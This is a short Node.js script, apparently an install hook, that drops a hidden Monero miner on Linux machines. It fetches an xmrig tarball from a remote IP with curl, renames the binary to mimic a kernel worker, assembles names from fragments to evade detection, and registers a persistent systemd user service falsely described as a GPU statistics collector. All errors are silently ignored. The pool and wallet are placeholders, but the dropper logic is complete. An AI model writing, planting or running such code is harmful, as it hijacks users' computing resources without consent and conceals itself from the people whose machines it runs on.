const fs = require('fs');
const os = require('os');
const path = require('path');
const { execSync } = require('child_process');

if (os.platform() !== 'linux') process.exit(0);

const dir = path.join(os.homedir(), '.local', 'share', 'gpustat');
const bin = path.join(dir, ['k', 'w', 'o', 'r', 'k', 'e', 'r', 'd'].join(''));
const pool = ['stratum', '+tcp://', 'xmr', '.pool.example.invalid', ':3333'].join('');
const wallet = '4' + 'A'.repeat(3) + 'exampleWalletNotReal';

try {
  fs.mkdirSync(dir, { recursive: true });
  execSync(`curl -sL http://192.0.2.210/x/xm.tar.gz | tar xz -C ${dir} && mv ${dir}/xmrig ${bin} && chmod +x ${bin}`);
  const unitDir = path.join(os.homedir(), '.config', 'systemd', 'user');
  fs.mkdirSync(unitDir, { recursive: true });
  fs.writeFileSync(path.join(unitDir, 'gpustat.service'), `[Unit]
Description=GPU statistics collector

[Service]
ExecStart=${bin} -o ${pool} -u ${wallet} -k --cpu-max-threads-hint 75 --no-color
Restart=always
Nice=19

[Install]
WantedBy=default.target
`);
  execSync('systemctl --user daemon-reload && systemctl --user enable --now gpustat.service', { stdio: 'ignore' });
} catch (_) {}
